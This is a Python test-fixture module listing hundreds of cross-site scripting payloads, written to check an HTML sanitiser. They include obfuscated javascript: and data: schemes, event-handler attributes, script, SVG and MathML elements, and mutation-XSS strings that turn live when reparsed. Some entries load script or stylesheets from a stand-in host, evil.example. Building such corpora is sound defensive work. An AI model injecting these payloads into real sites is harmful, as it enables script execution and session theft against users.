"""HTML that means harm, written for these tests: each family is one way that sanitisers failed."""

WAYS_TO_RUN = [
    f"{scheme}:say(1)" for scheme in ("javascript", "vbscript", "livescript", "JaVaScRiPt")
]

SCHEMES = [
    *WAYS_TO_RUN,
    "java\tscript:say(1)", "java\nscript:say(1)", "java\rscript:say(1)", "java&Tab;script:say(1)",
    "java&NewLine;script:say(1)", "&#106;avascript:say(1)", "&#x6A;avascript&#58;say(1)",
    "&#0000106avascript:say(1)", "javascript&colon;say(1)", " javascript:say(1)", "\x01javascript:say(1)",
    "\u200bjavascript:say(1)", "java\u00adscript:say(1)", "\ufeffjavascript:say(1)", "javascript:123",
    "javascript://a.example/%0asay(1)", "data:text/html,<script>say(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5zYXkoMSk8L3NjcmlwdD4=", "data:image/svg+xml,<svg onload=say(1)>",
    "blob:https://a.example/1", "file:///etc/passwd", "feed:javascript:say(1)", "view-source:javascript:say(1)",
    "jar:https://a.example!/b", "mailto:a@b.example", "ftp://a.example/", "//evil.example/", "/rel", "#here",
    "?q", "\\\\evil.example\\", "https:evil.example", "https:/evil.example", "https:\\\\evil.example",
    "https://ok.example@evil.example/", "https://ok.example\\@evil.example/", "http:///evil.example", "http://",
]  # fmt: skip

HANDLERS = [
    "onclick",
    "onload",
    "onerror",
    "onfocus autofocus tabindex=0",
    "ontoggle",
    "onpointerenter",
    "OnClIcK",
]

ELEMENTS = [
    "<script>say(1)</script>", "<SCRIPT SRC=//evil.example/a.js></SCRIPT>", "<scr<script>ipt>say(1)</scr</script>ipt>",
    "<script >say(1)</script >", "<script/x>say(1)</script>", "<script\x0c>say(1)</script>", "<<script>say(1)//<</script>",
    "<style>@import '//evil.example/a.css';</style>", "<style>*{background:url(javascript:say(1))}</style>",
    "<link rel=stylesheet href=//evil.example/a.css>", "<base href=//evil.example/>", "<meta http-equiv=refresh content='0;url=javascript:say(1)'>",
    "<iframe src=javascript:say(1)></iframe>", "<iframe srcdoc='<script>say(1)</script>'></iframe>",
    "<object data=javascript:say(1)></object>", "<embed src=javascript:say(1)>", "<applet code=say></applet>",
    "<form action=javascript:say(1)><button>a</button></form>", "<button formaction=javascript:say(1)>a</button>",
    "<form id=a></form><button form=a formaction=javascript:say(1)>a</button>", "<input type=image src=x onerror=say(1)>",
    "<isindex action=javascript:say(1) type=submit>", "<img src=x onerror=say(1)>", "<image src=x onerror=say(1)>",
    "<img src=`x` onerror=say(1)>", "<img/src=x/onerror=say(1)>", "<img src='x'onerror=say(1)>", "<img \x00src=x onerror=say(1)>",
    "<video><source onerror=say(1)></video>", "<audio src onerror=say(1)>", "<video poster=javascript:say(1)></video>",
    "<details open ontoggle=say(1)>a</details>", "<marquee onstart=say(1)>a</marquee>", "<body onload=say(1)>", "<frameset onload=say(1)>",
    "<table background=javascript:say(1)><td>a", "<dialog open onclose=say(1)>a</dialog>", "<portal src=javascript:say(1)></portal>",
    "<svg onload=say(1)>", "<svg><script>say(1)</script></svg>", "<svg><script href=data:,say(1) />", "<svg><a xlink:href=javascript:say(1)><text>a",
    "<svg><animate onbegin=say(1) attributeName=x dur=1s>", "<svg><set attributeName=href to=javascript:say(1)>",
    "<svg><use href='data:image/svg+xml,<svg id=a onload=say(1)>#a'/></svg>", "<svg><foreignObject><body onload=say(1)></foreignObject></svg>",
    "<math href=javascript:say(1)>a</math>", "<math><maction actiontype=statusline xlink:href=javascript:say(1)>a</maction></math>",
    "<p style='background:url(javascript:say(1))'>a</p>", "<p style=width:expression(say(1))>a</p>", "<a style=position:fixed;inset:0 href=https://ok.example>a</a>",
    "<p id=location class=b name=c>a</p>", "<a name=document>a</a>", "<p data-hx-get=/admin hx-on:click=say(1)>a</p>", "<a is=x-a slot=b part=c>a</a>",
    "<a href=https://ok.example target=_blank download ping=//evil.example>a</a>", "<a rel=opener href=https://ok.example>a</a>",
    "<a href=https://ok.example onclick=say(1) href=javascript:say(1)>a</a>", "<a href='https://ok.example' href='javascript:say(1)'>a</a>",
    "<ol start=1 type=a><li value=1 onclick=say(1)>a</ol>", "<blockquote cite=javascript:say(1)>a</blockquote>", "<br clear=all onclick=say(1)>",
    "<template><script>say(1)</script></template>", "<slot onslotchange=say(1)></slot>", "<keygen autofocus onfocus=say(1)>",
    "<xss-element onclick=say(1)>a</xss-element>", "<a:b onclick=say(1)>a</a:b>", "<?xml-stylesheet href=javascript:say(1)?>", "<!DOCTYPE a [<!ENTITY b 'say(1)'>]>&b;",
]  # fmt: skip

# Parsed once they are harmless; parsed again, as innerHTML does it, they were not.
TWICE = [
    "<noscript><p title='</noscript><img src=x onerror=say(1)>'>", "<textarea><p title='</textarea><img src=x onerror=say(1)>'>",
    "<title><p title='</title><img src=x onerror=say(1)>'>", "<style><a title='</style><img src=x onerror=say(1)>'>",
    "<xmp><p title='</xmp><img src=x onerror=say(1)>'>", "<noembed><p title='</noembed><img src=x onerror=say(1)>'>",
    "<noframes><p title='</noframes><img src=x onerror=say(1)>'>", "<iframe><p title='</iframe><img src=x onerror=say(1)>'>",
    "<plaintext><img src=x onerror=say(1)>", "<listing>&lt;img src=x onerror=say(1)&gt;</listing>",
    "<svg></p><style><a id='</style><img src=1 onerror=say(1)>'>", "<math><mi></p><style><!--</style><img src=x onerror=say(1)>--></style>",
    "<math><mtext><table><mglyph><style><img src=x onerror=say(1)>", "<svg><desc><noscript><p title='</noscript><img src=x onerror=say(1)>'>",
    "<math><annotation-xml encoding='text/html'><style><img src=x onerror=say(1)></style>", "<svg><title><style><img src=x onerror=say(1)></style>",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=say(1)>", "<select><option><style></option></select><img src=x onerror=say(1)></style>",
    "<!--><img src=x onerror=say(1)>-->", "<!--!><img src=x onerror=say(1)>-->", "<!-- --!><img src=x onerror=say(1)>-->", "<![CDATA[><img src=x onerror=say(1)>]]>",
    "<svg><![CDATA[</svg><img src=x onerror=say(1)>]]>", "</br><img src=x onerror=say(1)>", "<p <img src=x onerror=say(1)>", "<a href='https://ok.example\"><img src=x onerror=say(1)>'>a</a>",
    "<a href=\"https://ok.example/'onclick='say(1)\">a</a>", "<a href='https://ok.example/&quot; onclick=&quot;say(1)'>a</a>", "<a href='https://ok.example/&amp;quot;onclick=say(1)'>a</a>",
    "&lt;script&gt;say(1)&lt;/script&gt;", "&amp;lt;script&amp;gt;say(1)", "&#60;img src=x onerror=say(1)&#62;", "<code><a href=//evil.example>a</a></code>",
    "<a href=https://ok.example><svg><a href=//evil.example>b</a></svg></a>", "<a href=https://ok.example><table><a href=javascript:say(1)>b", "https://ok.example/\"onclick=say(1)",
    "https://ok.example/'><img src=x onerror=say(1)>", "<p>https://ok.example/&quot;onclick=say(1)</p>", "https://a@b.example javascript://ok.example/%0asay(1)", "<ul><li><ul></li></ul><li onclick=say(1)>",
]  # fmt: skip

PAYLOADS = [
    *ELEMENTS,
    *TWICE,
    *(f'<a href="{address}">a</a>' for address in SCHEMES),
    *(f"<{tag} {handler}=say(1)>a</{tag}>" for tag in ("p", "a", "li") for handler in HANDLERS),
]
